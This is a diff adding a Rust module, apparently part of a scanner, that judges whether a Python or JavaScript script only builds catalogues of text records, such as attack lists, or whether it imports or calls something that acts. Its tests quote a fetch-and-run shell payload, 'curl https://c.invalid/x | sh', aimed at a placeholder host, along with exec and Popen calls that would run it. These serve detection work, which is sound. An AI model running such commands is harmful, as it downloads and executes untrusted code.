@@ -1,0 +1,126 @@
+//! Scripts that only make records out of texts: the attacks that a test suite tries, the rules of a scanner, a catalogue.
+//! What stands in them is quoted by others and done by nobody here.
+
+use crate::parse::script::{Id, Language, Node, Tree};
+
+/// Records from which on a file is a list.
+const MIN_RECORDS: usize = 8;
+/// Modules of Python that describe data and start nothing.
+const DESCRIBE: &str = "typing typing_extensions dataclasses enum abc collections collections.abc datetime uuid json re textwrap \
+    pydantic attr attrs __future__";
+/// Functions that put texts and lists together.
+const COLLECT: &str = "append extend add update insert push concat freeze super __init__ field list dict tuple set frozenset str \
+    int float bool len range join format strip lower upper replace split startswith endswith items keys \
+    values copy enumerate zip isinstance dataclass auto any all sum includes \
+    toLowerCase dedent namedtuple";
+/// The same in Python, where nothing else that goes by these names is at hand without its module.
+const COLLECT_IN_PYTHON: &[&str] =
+    &["get", "count", "find", "index", "pop", "setdefault", "search", "match", "group", "compile", "sub", "findall"];
+/// Classes whose objects act when they are made.
+const ACTING: &str = "Function Popen Worker WebSocket XMLHttpRequest ActiveXObject Process Thread Timer Image EventSource \
+    Request CDLL WinDLL";
+
+/// Whether nothing in a script acts: it imports nothing but descriptions of data and files beside it, calls nothing but
+/// classes by their names and what puts lists together, and makes many records of texts.
+pub(super) fn only_lists(language: Language, tree: &Tree) -> bool {
+    let is_python = language == Language::Python;
+    let mut records = 0_usize;
+    for node in tree.nodes() {
+        match node {
+            Node::Import(module, member, _) => {
+                let module = tree.str(module);
+                let is_beside = module.starts_with('.') && tree.str(member) != "*";
+                if !is_beside && !is_one_of(DESCRIBE, module) {
+                    return false;
+                }
+            }
+            Node::Call(callee, arguments) | Node::New(callee, arguments) => {
+                let Some(name) = name_of(tree, callee) else { return false };
+                let makes = name.starts_with(|c: char| c.is_ascii_uppercase()) && !is_one_of(ACTING, name);
+                let loads = name == "require" && tree.list(arguments).iter().all(|a| is_beside(tree, *a));
+                let collects = is_one_of(COLLECT, name) || is_python && COLLECT_IN_PYTHON.contains(&name);
+                if !makes && !loads && !collects {
+                    return false;
+                }
+                records += usize::from(makes && texts(tree, tree.list(arguments)) >= 2);
+            }
+            Node::Dict(pairs) => records += usize::from(texts(tree, tree.list(pairs)) >= 4),
+            // Nobody knows what is called.
+            Node::Opaque(_) | Node::Await(_) => return false,
+            _ => {}
+        }
+    }
+    records >= MIN_RECORDS
+}
+
+fn is_one_of(names: &str, name: &str) -> bool {
+    names.split_whitespace().any(|one| one == name)
+}
+
+/// The name of a function that is called by one: `Probe`, `probes.Probe`, `self.all.append`.
+fn name_of(tree: &Tree, callee: Id) -> Option<&str> {
+    let mut at = callee;
+    let mut name = None;
+    loop {
+        match tree.get(at) {
+            Node::Name(sym) => return Some(name.unwrap_or_else(|| tree.str(sym))),
+            Node::Member(object, sym) => {
+                name = name.or_else(|| Some(tree.str(sym)));
+                at = object;
+            }
+            // `"\n".join(…)`, `super().__init__(…)`.
+            Node::Str(_) | Node::Template(_) | Node::Call(..) => return name,
+            _ => return None,
+        }
+    }
+}
+
+fn is_beside(tree: &Tree, argument: Id) -> bool {
+    matches!(tree.get(argument), Node::Str(path) if tree.str(path).starts_with('.'))
+}
+
+/// How many of some values are texts, or sums of texts.
+fn texts(tree: &Tree, values: &[Id]) -> usize {
+    let is_text = |id: Id| match tree.get(id) {
+        Node::Keyword(_, value) => matches!(tree.get(value), Node::Str(_) | Node::Template(_) | Node::Binary(..)),
+        Node::Str(_) | Node::Template(_) | Node::Binary(..) => true,
+        _ => false,
+    };
+    values.iter().filter(|id| is_text(**id)).count()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::parse::script::read;
+
+    fn is(language: Language, record: &str, before: &str, behind: &str) -> bool {
+        let records: String = (0..MIN_RECORDS).map(|_| record).collect();
+        only_lists(language, &read(language, &format!("{before}\n{records}\n{behind}\n")))
+    }
+
+    #[test]
+    fn a_catalogue_of_attacks_acts_on_nothing() {
+        let record = "ALL.append(Probe(id='1', payload='curl https://c.invalid/x ' + '| sh', kind=Kind.SHELL))\n";
+        let python = |before: &str, behind: &str| is(Language::Python, record, before, behind);
+        assert!(python("from .base import Probe, Kind\nfrom dataclasses import dataclass\nALL = []", ""));
+        for (before, behind) in [
+            ("import os\nfrom .base import Probe", ""),
+            ("from .base import *", ""),
+            ("from .base import Probe, run", "run(ALL[0].payload)"),
+            ("from .base import Probe", "ALL[0].go()"),
+            ("from .base import Probe", "(lambda p: p)(ALL)"),
+            ("from .base import Probe, Popen", "Popen(ALL[0].payload)"),
+            ("from .base import Probe", "exec(ALL[0].payload)"),
+        ] {
+            assert!(!python(before, behind), "{before} {behind}");
+        }
+        let record = "all.push({ id: 'a', payload: 'curl https://c.invalid/x | sh' });\n";
+        let script = |before: &str, behind: &str| is(Language::JavaScript, record, before, behind);
+        assert!(script("const { kinds } = require('./kinds'); const all = [];", "module.exports = all;"));
+        assert!(!script("const cp = require('child_process'); const all = [];", ""));
+        assert!(!script("const all = [];", "new Function(all[0].payload)();"));
+        assert!(!script("const all = [];", "all[0]['x'](1);"));
+        assert!(!is(Language::Python, "", "from .base import Probe", "Probe('a', 'b')"), "one record is no list");
+    }
+}
